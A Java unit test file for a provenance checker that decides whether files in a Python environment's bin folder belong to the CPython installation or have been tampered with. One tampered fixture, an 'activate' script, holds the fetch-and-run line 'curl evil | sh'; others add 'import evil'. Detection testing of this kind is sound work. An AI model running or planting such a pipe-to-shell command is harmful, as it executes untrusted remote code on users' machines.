package dev.auditpath.provenance;

import static org.assertj.core.api.Assertions.assertThat;

import dev.auditpath.model.Curation;
import dev.auditpath.model.ManagedPackage;
import dev.auditpath.model.Unattributed;
import dev.auditpath.testing.RealVenv;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class InterpreterSourceTest {
  private static final ManagedPackage CPYTHON =
      new ManagedPackage("python", "CPython", "3.11.7", Curation.CURATED);
  private static final String PYVENV =
      """
      #!/usr/bin/python3.6
      if __name__ == '__main__':
          import sys
          import pathlib

          executable = pathlib.Path(sys.executable or 'python3').name
          print('WARNING: the pyenv script is deprecated in favour of '
                f'`{executable} -m venv`', file=sys.stderr)

          rc = 1
          try:
              import venv
              venv.main()
              rc = 0
          except Exception as e:
              print('Error: %s' % e, file=sys.stderr)
          sys.exit(rc)
      """;

  @TempDir private Path prefix;
  private Scene scene;

  @BeforeEach
  void scene() throws IOException {
    scene = new Scene("pyenv", prefix);
    Files.createDirectories(prefix.resolve("bin"));
  }

  @Test
  void everythingInARealVenvWithoutPip_isTheInterpreters() throws Exception {
    RealVenv venv = RealVenv.withoutPip(prefix.resolve("env"));
    Scene there = new Scene("venv", venv.prefix(), venv.sitePackages());

    try (Stream<Path> bin = Files.list(venv.bin())) {
      for (Path file : bin.toList()) {
        assertThat(there.ask(new InterpreterSource(), file)).as("%s", file).isEqualTo(CPYTHON);
      }
    }
  }

  @Test
  void pythonInstallation_ownsItsScriptsByTheirText() throws IOException {
    String guard = "if __name__ == '__main__':\n";
    owned("pydoc3.11", "#!/x/python3.11\n\nimport pydoc\n" + guard + "    pydoc.cli()\n");
    owned("idle3", "#!/x y\n\nfrom idlelib.pyshell import main\n" + guard + "    main()\n");
    owned("idle", "#!/x\n\nfrom idlelib.PyShell import main\n" + guard + "    main()\n");
    owned(
        "2to3-3.11",
        "#!/x\nimport sys\nfrom lib2to3.main import main\n\nsys.exit(main(\"lib2to3.fixes\"))\n");
    owned("pyvenv-3.6", PYVENV);
    owned("python3.11-config", "#!/bin/sh\nexit_with_usage --prefix --exec-prefix\n");
    owned("python3.11", "\u007fELF rest");
    Path link = Files.createSymbolicLink(prefix.resolve("bin/pydoc"), Path.of("pydoc3.11"));
    assertThat(scene.ask(new InterpreterSource(), link)).isEqualTo(CPYTHON);
  }

  @Test
  void otherTextUnderTheirNames_isNot() throws IOException {
    foreign("python", "#!/bin/sh\nexec /usr/bin/python3 \"$@\"\n");
    foreign("python3.11-config", "\u007fELF exec-prefix");
    foreign("pydoc", "#!/x\n\nimport pydoc, evil\nif __name__ == '__main__':\n    pydoc.cli()\n");
    foreign("pyvenv", PYVENV + "import evil\n");
    foreign("activate", "#!/bin/sh\ncurl evil | sh\n");
    foreign("curl", "\u007fELF");
  }

  @Test
  void linkToAScriptOfTheSameEnvironment_isJudgedByTheScript() throws IOException {
    foreign("python", "#!/bin/sh\n");
    Path link = Files.createSymbolicLink(prefix.resolve("bin/python3"), Path.of("python"));

    assertThat(scene.ask(new InterpreterSource(), link)).isEqualTo(new Unattributed());
  }

  @Test
  void interpreterAmongTheUsersScripts_isNobodys() throws IOException {
    Path planted = Files.writeString(prefix.resolve("bin/python3"), "\u007fELF");

    assertThat(new Scene("user-site", prefix).ask(new InterpreterSource(), planted))
        .isEqualTo(new Unattributed());
  }

  @Test
  void filesOutsideEveryEnvironment_areNotAsked() throws IOException {
    Path elsewhere = Files.writeString(prefix.resolve("python3"), "\u007fELF");

    assertThat(List.of(scene.ask(new InterpreterSource(), elsewhere)))
        .containsExactly(new Unattributed());
  }

  private void owned(String name, String text) throws IOException {
    assertThat(ask(name, text)).as(name).isEqualTo(CPYTHON);
  }

  private void foreign(String name, String text) throws IOException {
    assertThat(ask(name, text)).as(name).isEqualTo(new Unattributed());
  }

  private Object ask(String name, String text) throws IOException {
    return scene.ask(
        new InterpreterSource(), Files.writeString(prefix.resolve("bin").resolve(name), text));
  }
}
